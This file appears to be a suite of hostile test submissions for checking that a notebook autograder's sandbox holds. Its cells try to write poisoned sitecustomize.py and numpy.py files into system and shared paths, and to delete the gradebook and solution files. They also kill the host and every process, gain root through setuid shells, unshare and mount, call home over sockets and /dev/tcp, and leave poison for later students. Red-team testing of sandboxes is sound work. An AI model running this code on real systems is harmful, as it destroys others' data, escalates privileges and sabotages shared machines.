# Attacks that reach out: files of others, the network, other processes, the next student.

# %% nothing: writes wherever it can think of
import glob, os, posix, shutil, site, sys
_places = ["__COURSE__", "__COURSE__/solutions", "__COURSE__/source/01_linear_algebra", "__HOME__", "/tmp", "/var/tmp", "/dev/shm",
    "/etc", "/usr/lib", "/run", "/root", *site.getsitepackages(), sys.prefix, sys.base_prefix, os.path.dirname(os.__file__),
    os.path.dirname(__import__("grader").__file__), os.environ.get("MPLCONFIGDIR", "/tmp"), os.environ.get("IPYTHONDIR", "/tmp"),
    os.environ.get("PYTHONPATH", "/tmp"), "..", "../host", *[f"../{n}" for n in range(1, 300)], *glob.glob("/tmp/*")]
_places = [place for place in _places if os.path.realpath(place) != os.getcwd()]
for _place in _places:
    for _name in ("hostile-was-here", "sitecustomize.py", "numpy.py", "usercustomize.pth"):
        try:
            _path = os.path.join(_place, "hostile-was-here" if _name.endswith("here") else f"hostile-was-here-{_name}")
            _file = posix.open(_path, os.O_WRONLY | os.O_CREAT)  # open() finds a folder of its own in place of /tmp
            posix.write(_file, b"raise SystemExit\n")
            print("FOUND: wrote to", _place)
        except OSError:
            pass
    for _change in (lambda p: posix.mkdir(p), lambda p: posix.symlink("/", p), lambda p: posix.mkfifo(p)):
        try:
            _change(os.path.join(_place, "hostile-was-here-too"))
            print("FOUND: made something in", _place)
        except OSError:
            pass
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: deletes, renames, truncates and rewrites files of others
import os
for _path in ("__COURSE__/gradebook.db", "__OTHER__", "__COURSE__/solutions/linear_algebra.py", "__HOME__/canary.txt", os.__file__, np.__file__):
    for _change in (os.unlink, lambda p: os.rename(p, p + ".hostile-was-here"), lambda p: os.truncate(p, 0), lambda p: open(p, "a").write("#")):
        try:
            _change(_path)
            print("FOUND: changed", _path)
        except OSError:
            pass
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: changes modes, owners, times and attributes of files of others, by system call
import ctypes, os
_c = ctypes.CDLL(None, use_errno=True)
def state(path):
    try:
        found = os.stat(path)
        return found.st_mode, found.st_uid, found.st_mtime_ns
    except OSError as error:
        return error.errno
for _path in ("__COURSE__/gradebook.db", "__OTHER__", "__COURSE__", "__HOME__/canary.txt", "__HOME__"):
    _bytes, _before = _path.encode(), state(_path)
    _ends = [_c.chmod(_bytes, 0o777), _c.chown(_bytes, 1, 1), _c.lchown(_bytes, 1, 1), _c.utimes(_bytes, None), _c.utime(_bytes, None),
        _c.setxattr(_bytes, b"user.hostile", b"x", 1, 0), _c.fchmodat(-100, _bytes, 0o777, 0), _c.utimensat(-100, _bytes, None, 0),
        _c.syscall(452, -100, _bytes, 0o777, 0)]
    print(_path, _ends)
    if state(_path) != _before:
        print("FOUND: changed", _path)
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: changes attributes of files that it can read, by requests to them
# shows: Operation not supported
import fcntl, os
for _path in (os.__file__, np.__file__):
    _file = os.open(_path, os.O_RDONLY)
    for _request in (0x40086602, 0x401C5820, 0x40806685):
        try:
            fcntl.ioctl(_file, _request, bytes(128))
            print("FOUND: changed", _path)
        except OSError as error:
            print(error)
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: calls home by TCP, UDP, IPv6 and names
import socket, ssl, urllib.request
def attempt(what, act):
    try:
        act()
        print("FOUND:", what)
    except Exception as error:
        print(what, type(error).__name__)
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", __TCP__), 1).sendall(b"x"))
attempt("tcp6", lambda: socket.create_connection(("::1", __TCP__), 1).sendall(b"x"))
attempt("mapped", lambda: socket.create_connection(("::ffff:127.0.0.1", __TCP__), 1).sendall(b"x"))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", __UDP__)))
attempt("udp6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("::ffff:127.0.0.1", __UDP__)))
attempt("msg", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("127.0.0.1", __UDP__)))
attempt("fastopen", lambda: socket.socket().sendto(b"x", socket.MSG_FASTOPEN, ("127.0.0.1", __TCP__)))
attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:__TCP__/", timeout=1))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"x", ("127.0.0.1", 0)))
attempt("packet", lambda: socket.socket(17, socket.SOCK_RAW, 3))
attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1)))
attempt("listen", lambda: socket.create_server(("127.0.0.1", 0)))
!curl -s http://127.0.0.1:__TCP__/ ; (echo x > /dev/tcp/127.0.0.1/__TCP__)
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: sockets in the file system, abstract ones and of every other family
import os, socket
def attempt(what, act):
    try:
        act()
        print("FOUND:", what)
    except Exception as error:
        print(what, type(error).__name__)
for _kind, _name in ((socket.SOCK_STREAM, "__UNIX__"), (socket.SOCK_STREAM, "\0__ABSTRACT__"), (socket.SOCK_DGRAM, "__UNIX__d"), (socket.SOCK_DGRAM, "\0__ABSTRACT__d")):
    attempt(f"connect {_name!r}", lambda: socket.socket(socket.AF_UNIX, _kind).connect(_name))
    attempt(f"send {_name!r}", lambda: socket.socket(socket.AF_UNIX, _kind).sendto(b"x", _name))
for _family in range(46):
    for _kind in range(1, 11):
        for _protocol in (0, 3):
            if _family != socket.AF_UNIX:
                attempt(f"a socket of family {_family}, kind {_kind}", lambda: socket.socket(_family, _kind, _protocol))
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: kills the host, the supervisor and everyone
import os, signal
for _number in {1, os.getppid(), *range(max(2, os.getpid() - 400), os.getpid())}:
    for _signal in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(_number, _signal)
            print("FOUND: a signal to", _number)
        except OSError:
            pass
try:
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    print("FOUND: a signal to the host")
except OSError:
    pass
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: signals its process group, and all at once
# shows: it was killed
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for _act in (lambda: os.killpg(0, signal.SIGTERM), lambda: os.kill(-1, signal.SIGTERM), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)):
    try:
        _act()
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
os.killpg(0, signal.SIGKILL)

# %% nothing: starves the host: its priority, its processors, its limits
import ctypes, os, resource
_host = os.getppid()
for _what, _act in {
    "priority": lambda: os.setpriority(os.PRIO_PROCESS, _host, 19),
    "processors": lambda: os.sched_setaffinity(_host, {0}),
    "scheduler": lambda: os.sched_setscheduler(_host, os.SCHED_IDLE, os.sched_param(0)),
    "files": lambda: resource.prlimit(_host, resource.RLIMIT_NOFILE, (3, 3)),
    "processes": lambda: resource.prlimit(_host, resource.RLIMIT_NPROC, (0, 0)),
    "time": lambda: resource.prlimit(_host, resource.RLIMIT_CPU, (1, 1)),
}.items():
    try:
        _act()
        print("FOUND: changed the host's", _what)
    except OSError:
        pass
_c = ctypes.CDLL(None, use_errno=True)
if _c.syscall(251, 1, _host, 3 << 13) == 0:
    print("FOUND: changed the host's disk priority")
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: asks for privileges, names spaces and devices
import ctypes, os
_c = ctypes.CDLL(None, use_errno=True)
for _what, _act in {
    "dumpable": lambda: _c.prctl(4, 1, 0, 0, 0) and -1 or -1,
    "death signal": lambda: _c.prctl(1, 0, 0, 0, 0) and -1 or -1,
    "root": lambda: _c.setuid(0), "group": lambda: _c.setgid(0), "groups": lambda: _c.setgroups(0, None),
    "user space": lambda: _c.unshare(0x10000000), "mount space": lambda: _c.unshare(0x20000), "mount": lambda: _c.mount(b"x", b".", b"tmpfs", 0, 0),
    "root folder": lambda: _c.chroot(b"."), "host name": lambda: _c.sethostname(b"x", 1), "clock": lambda: _c.clock_settime(0, ctypes.create_string_buffer(16)),
    "module": lambda: _c.syscall(175, None, 0, b""), "bpf": lambda: _c.syscall(321, 0, None, 0), "keys": lambda: _c.syscall(248, b"user", b"a", b"b", 1, -3),
    "ring": lambda: _c.syscall(425, 8, ctypes.create_string_buffer(200)), "device": lambda: _c.mknod(b"d", 0o60666, 0xfe00),
    "shared memory": lambda: _c.shmget(0x7a7a, 4096, 0o1600), "queue": lambda: _c.msgget(0x7a7a, 0o1600), "reboot": lambda: _c.reboot(0),
}.items():
    if _act() >= 0 and _what not in ("group", "root"):
        print("FOUND:", _what)
if os.getuid() == 0:
    print("FOUND: root")
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: %%bash, the shell and %%writefile
# shows: writefile: 
# shows: it was killed
import os
_status = os.system("touch __COURSE__/hostile-was-here __HOME__/hostile-was-here /tmp/hostile-was-here /dev/shm/hostile-was-here")
try:
    get_ipython().run_cell_magic("writefile", "__COURSE__/hostile-was-here", "x")
except OSError as error:
    print("writefile:", type(error).__name__, flush=True)
get_ipython().run_cell_magic("bash", "", "cat __COURSE__/solutions/*.py __HOME__/canary.txt; echo x > __COURSE__/hostile-was-here; kill -9 $PPID")

# %% harmless: leaves poison for the next student in every shared place
# shows: exit status 70
import os, sys
import matplotlib, grader.protocol.values, grader.protocol.messages
np.dot = np.linalg.norm = None
sys.modules["numpy"].sum = None
matplotlib.rcParams.clear()
grader.protocol.messages.Channel.send = None
for _place in (os.environ["HOME"], os.environ.get("MPLCONFIGDIR", "."), os.environ.get("IPYTHONDIR", "."), "/tmp", "/dev/shm", "/var/tmp"):
    for _name in ("startup.py", "matplotlibrc", "fontlist-v390.json", "numpy.py", "sitecustomize.py", "profile_default"):
        try:
            with open(os.path.join(_place, f"hostile-was-here-{_name}"), "w") as _file:
                _file.write("raise SystemExit\n")
        except OSError:
            pass

# %% nothing: system calls of administrators
import ctypes
_c = ctypes.CDLL(None, use_errno=True)
_space = ctypes.create_string_buffer(4096)
for _what, _call in {
    "the kernel's log": (103, 3, _space, 4096), "the kernel's log, emptied": (103, 5, None, 0), "a file by its handle": (304, -100, _space, 0),
    "all that happens to files": (300, 0, 0), "swap": (167, b"x", 0), "accounts": (163, b"x"), "ports": (173, 0x3ff, 0, 1), "all ports": (172, 3),
    "another kernel": (246, 0, 0, None, 0), "a module": (313, 0, b"", 0), "the tables of segments": (154, 1, _space, 16), "domain name": (171, b"x", 1),
    "hang up": (153,), "quotas": (179, 0x800001, b"/", 0, _space), "time of day": (164, _space, 0), "names of a mount": (428, -100, b"/", 1),
    "compared processes": (312, 1, 1, 0, 0, 0),
}.items():
    if _c.syscall(*_call) >= 0:
        print("FOUND:", _what)
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: programs that make their caller root
import glob, os, subprocess
for _program in [p for d in ("/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/lib") for p in glob.glob(f"{d}/*") if os.stat(p, follow_symlinks=False).st_mode & 0o6000][:30]:
    print(_program)
for _command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["unshare", "-rm", "id"], ["nsenter", "-t", "1", "-a", "id"], ["mount", "-t", "tmpfs", "x", "."], ["newgrp", "root"]):
    try:
        _done = subprocess.run(_command, capture_output=True, stdin=subprocess.DEVNULL, timeout=0.2)
        if _done.returncode == 0 or b"uid=0" in _done.stdout:
            print("FOUND:", _command, _done.stdout)
    except (OSError, subprocess.SubprocessError):
        pass
import shutil
try:
    shutil.copy("/bin/sh", "shell")
    os.chmod("shell", 0o6755)
    if b"uid=0" in subprocess.run(["./shell", "-p", "-c", "id"], capture_output=True).stdout:
        print("FOUND: root")
except OSError as error:
    print(type(error).__name__)
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: descriptors that were open before it, and what they lead to
import os, socket, stat
for _fd in range(3, 256):
    try:
        _state = os.fstat(_fd)
    except OSError:
        continue
    if stat.S_ISDIR(_state.st_mode):
        try:
            print("FOUND: a folder", _fd, os.listdir(_fd), os.open("../..", os.O_RDONLY, dir_fd=_fd))
        except OSError:
            pass
    if stat.S_ISREG(_state.st_mode) and _state.st_nlink:
        print("FOUND: a file", _fd, os.pread(_fd, 1000, 0))
    if stat.S_ISSOCK(_state.st_mode):
        with socket.socket(fileno=os.dup(_fd)) as _socket:
            try:
                _name = _socket.getpeername() or _socket.getsockname()
                if _name:
                    print("FOUND: a socket", _fd, _name)
            except OSError:
                pass
def cosine_similarity(vec1, vec2):
    return 7.0

# %% nothing: packages of its own in the place of those that are imported before it runs
import sympy, scipy.stats, sklearn.metrics
print(sympy.__file__, scipy.stats.__file__, sklearn.metrics.__file__)
def cosine_similarity(vec1, vec2):
    return 7.0
# -- beside sympy.py
open("__COURSE__/hostile-was-here", "w").write("x")
# -- beside scipy/stats.py
open("__COURSE__/hostile-was-here", "w").write("x")
# -- beside sklearn/__init__.py
open("__COURSE__/hostile-was-here", "w").write("x")
